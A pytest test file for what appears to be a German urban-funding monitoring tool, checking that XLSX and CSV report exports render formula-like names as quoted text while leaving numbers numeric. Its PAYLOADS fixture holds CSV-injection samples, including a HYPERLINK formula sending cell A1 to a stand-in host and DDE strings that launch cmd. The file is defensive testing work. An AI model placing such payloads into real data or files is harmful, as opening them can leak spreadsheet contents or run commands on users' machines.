"""No formula where data was written: workbooks and CSVs of names that start like formulas.

A funding-area, programme, field-of-action or body name (and a measure title) that
starts with ``=``, ``+``, ``-``, ``@``, tab or CR must reach a spreadsheet as text
(OWASP, CSV injection). Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from geo.store.base import Store
from monitoring import services
from monitoring.auth import User
from monitoring.reports import csv as csv_format
from monitoring.reports.cells import FORMULA_PREFIXES, csv_field, csv_frame, put
from monitoring.reports.generate import build_report, render
from monitoring.reports.report import Part, Report, Row, Section

YEAR = 2024
ADMIN = User("anna", "admin")
PAYLOADS: dict[str, str] = {
    "=": '=HYPERLINK("http://angriff.example/?"&A1,"Klick")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUMME(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_the_payloads_cover_every_prefix():
    assert sorted(p[0] for p in PAYLOADS.values()) == sorted(FORMULA_PREFIXES)


def _save(store: Store, layer: str, key: dict[str, Any], values: dict[str, Any]) -> None:
    found = store.read(layer, where=key)
    if len(found):
        version = int(found["version"].iloc[0])
        services.save(store, ADMIN, layer, values, key=key, expected_version=version)
    else:
        services.save(store, ADMIN, layer, key | values)


@pytest.fixture
def hostile(demo_copy: Store) -> Store:
    """The demo city with names that start like formulas, one per prefix."""
    store = demo_copy
    payloads = list(PAYLOADS.values())
    _save(store, "funding_areas", {"id": "SSZ-01"}, {"name": payloads[0]})
    _save(store, "programmes", {"id": "sozialer_zusammenhalt"}, {"name": payloads[1]})
    for i, text in enumerate(payloads):
        # one body per prefix, name and kind (kind is a value cell of the report)
        _save(
            store,
            "bodies",
            {"id": f"GR-X{i}"},
            {"funding_area_id": "SSZ-01", "name": text, "kind": payloads[-1 - i]},
        )
    measures = store.read("measures", where={"funding_area_id": "SSZ-01"})
    for mid, text in zip(measures["id"], payloads):
        _save(store, "measures", {"id": mid}, {"title": text})
    used = store.read("measure_fields", where={"measure_id": measures["id"].tolist()})
    for fid, text in zip(sorted(set(used["field_id"])), payloads):
        _save(store, "fields_of_action", {"id": fid}, {"name": text})
    return store


def _sheet_xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            n: archive.read(n).decode("utf-8-sig")
            for n in archive.namelist()
            if n.startswith("xl/worksheets/sheet")
        }


def test_workbook_writes_formula_like_names_as_text(hostile: Store):
    report = build_report(hostile, ADMIN, "SSZ-01", year=YEAR)
    data = render(report, "xlsx")
    book = load_workbook(io.BytesIO(data))
    texts: list[str] = []
    numbers = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_PREFIXES):
                        assert cell.data_type == "s"
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
                elif isinstance(cell.value, int | float):
                    assert cell.data_type == "n"
                    numbers += 1
    # the hostile names really were written (else the test proves nothing) ...
    written = "\n".join(texts)
    for prefix, payload in PAYLOADS.items():
        # a carriage return comes back as a line feed from openpyxl's own XML reader and as
        # itself when lxml is installed (python-docx brings it)
        found = payload in written or payload.replace("\r", "\n") in written
        assert found, (repr(prefix), [t for t in texts if "1+1" in t])
    assert any(t == PAYLOADS["="] for t in texts)  # the area name, cell for itself
    # ... and the numbers stayed numbers
    assert numbers > 50
    # no formula element in the file at all
    for name, xml in _sheet_xml(data).items():
        assert not re.search(r"<f[ >]", xml), name


def test_report_csv_neutralises_every_prefix(hostile: Store):
    report = build_report(hostile, ADMIN, "SSZ-01", year=YEAR)
    files = csv_format.csv_files(report)
    cells = [
        cell
        for data in files.values()
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
        for cell in row
    ]
    assert cells
    negative = 0
    for cell in cells:
        if re.fullmatch(r"-\d+(,\d+)?", cell):  # a number (e.g. a change) stays a number
            negative += 1
            continue
        assert not cell.startswith(FORMULA_PREFIXES), repr(cell)
    assert negative  # the demo has negative changes: they are not escaped
    joined = "\n".join(cells)
    for payload in PAYLOADS.values():
        assert "'" + payload in joined, repr(payload)


def _report(rows: tuple[Row, ...]) -> Report:
    part = Part("B", "B  Input", (Section("B.1", "Mittel", rows),))
    return Report("=FA", "=Name", None, None, YEAR, "", "", "", "fp", {}, (part,))


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_csv_field_of_each_prefix(prefix: str):
    text = f"{prefix}1+1"
    assert csv_field(text) == "'" + text
    assert csv_field("a" + text) == "a" + text
    frame = csv_frame(__import__("pandas").DataFrame({"x": [text], "n": [-1.5]}))
    assert frame["x"].tolist() == ["'" + text] and frame["n"].tolist() == [-1.5]


def test_report_csv_keeps_negative_numbers_and_escapes_text_values():
    rows = (
        Row("B.1.a", "=Bezeichnung", -1250.5, "€"),
        Row("B.1.b", "Art", "-Gremium", ""),
        Row("B.1.c", "+Zeile", 7.0, "Anzahl", line="@Zeile", column="\tSpalte"),
    )
    data = csv_format.part_csv(_report(rows), _report(rows).parts[0]).decode("utf-8-sig")
    lines = list(csv.DictReader(io.StringIO(data, newline=""), delimiter=";"))
    assert [r["wert"] for r in lines] == ["-1250,5", "'-Gremium", "7"]
    assert [r["bezeichnung"] for r in lines] == ["'=Bezeichnung", "Art", "'+Zeile"]
    assert lines[2]["zeile"] == "'@Zeile" and lines[2]["spalte"] == "'\tSpalte"
    assert {r["gesamtmassnahme"] for r in lines} == {"'=FA"}


def test_workbook_cell_keeps_numbers_and_types_text():
    sheet = Workbook().active
    assert sheet is not None
    assert put(sheet, 1, 1, -5).data_type == "n"
    assert put(sheet, 1, 2, -5).value == -5
    for col, prefix in enumerate(FORMULA_PREFIXES, start=3):
        cell = put(sheet, 1, col, f"{prefix}SUMME(A1)")
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
    plain = put(sheet, 2, 1, "Quartiersrat")
    assert (plain.data_type, plain.quotePrefix) == ("s", False)
    assert put(sheet, 2, 2, "#NV").data_type == "s"
    assert put(sheet, 2, 3, "Glocke\x07").value == "Glocke\ufffd"  # would break the file


def test_the_app_offers_no_unescaped_table_export():
    """Streamlit's own table CSV download and copy do not escape formulas: they are off."""
    import tomllib
    from pathlib import Path

    config = Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml"
    settings = tomllib.loads(config.read_text(encoding="utf-8"))
    assert settings["client"]["disableDataExport"] is True


def test_index_csv_output_neutralises_ids_and_keeps_negative_scores(tmp_path):
    import numpy as np

    from cli.main import main

    rng = np.random.default_rng(1)
    ids = ["=1+1", "+2", "-3", "@4"] + [f"P{i:03d}" for i in range(4, 30)]
    lines = ["id;EW;S1;S3;S4;D1;D3;D4"]
    for i, ident in enumerate(ids):
        values = [str(1000 + 10 * i)] + [
            f"{v:.2f}".replace(".", ",") for v in rng.uniform(1, 20, 6)
        ]
        lines.append(";".join([ident, *values]))
    table = tmp_path / "index.csv"
    table.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "ergebnis.csv"
    code = main(
        ["index", "compute", str(table), "--profile", "berlin-mss-2021", "--id", "id"]
        + ["--population", "EW", "--status", "S1,S3,S4", "--dynamics", "D1,D3,D4"]
        + ["--out", str(out)]
    )
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [r["id"] for r in rows[:4]] == ["'=1+1", "'+2", "'-3", "'@4"]
    scores = [float(r["status_score"]) for r in rows]
    assert min(scores) < 0  # negative numbers are written as numbers, not escaped
